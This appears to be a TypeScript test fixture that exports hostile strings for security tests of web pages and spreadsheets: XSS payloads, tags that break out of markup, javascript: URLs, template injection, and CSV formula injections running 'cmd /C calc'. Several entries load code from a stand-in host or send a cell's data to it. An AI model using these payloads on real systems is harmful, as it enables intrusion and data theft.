/** Sets a variable that no page has; where it stands, the text of this number ran. */
const runs = (mark: number): string => `globalThis.somebodysTextRan=${mark}`

const textsOf = (ran: string): readonly string[] => [
  `<script>${ran}</script>`,
  `"><script>${ran}</script>`,
  `'><script>${ran}</script>`,
  `</script><script>${ran}</script>`,
  `</title><script>${ran}</script>`,
  `</textarea><script>${ran}</script>`,
  `</style><script>${ran}</script>`,
  `--><script>${ran}</script>`,
  `]]><script>${ran}</script>`,
  `<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${ran}</scr</script>ipt>`,
  `<img src=x onerror=${ran}>`,
  `<img src="x" onerror="${ran}" `,
  `<svg onload=${ran}>`,
  `<svg><script>${ran}</script></svg>`,
  `<svg><animate onbegin=${ran} attributeName=x dur=1s>`,
  `<math><mtext></mtext><style><img src=x onerror=${ran}></style></math>`,
  `<iframe srcdoc="<script>parent.${ran}</script>"></iframe>`,
  `<details open ontoggle=${ran}>text</details>`,
  `<input autofocus onfocus=${ran}>`,
  `<object data="javascript:${ran}"></object>`,
  `<base href="http://elsewhere.example/">`,
  `<meta http-equiv="refresh" content="0;url=http://elsewhere.example/">`,
  `<form action="http://elsewhere.example/"><button>Continue</button></form>`,
  `<link rel="stylesheet" href="http://elsewhere.example/x.css">`,
  `<template><script>${ran}</script></template>`,
  `" autofocus onfocus="${ran}`,
  `' onmouseover='${ran}`,
  `\` onfocus=\`${ran}`,
  `<a href="javascript:${ran}">Report</a>`,
  `[Report](javascript:${ran})`,
  `javascript:${ran}`,
  `data:text/html,<script>${ran}</script>`,
  `{{constructor.constructor('${ran}')()}}`,
  `\${${ran}}`,
  `';${ran};//`,
  `\\u003cscript\\u003e${ran}\\u003c/script\\u003e`,
  `&lt;script&gt;${ran}&lt;/script&gt;`,
  `＜script＞${ran}＜/script＞`,
  `}</style><style>body{background:url(http://elsewhere.example/x)}`,
  `=HYPERLINK("http://elsewhere.example/?"&A1,"Report")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `Right to left \u200fשלום\u200f <b>and back\u200e`,
  'Zero\u200bwidth, tag \u{e0001}\u{e0041}, long s \u017fcript',
  '__proto__',
  'constructor',
]

/**
 * Texts that become something else in a page which puts them into markup, an attribute, an address, a script, a template
 * or a style, and in a spreadsheet that takes them for a formula. Each has fewer than 200 characters: so do printed names.
 */
export const hostileTexts: readonly string[] = textsOf('').map((_text, mark) => textsOf(runs(mark))[mark] ?? '')

/** The first of them again, with a number of its own, where a text must be unlike all others. */
export const anotherHostileText = (mark: number): string => textsOf(runs(mark))[0] ?? ''
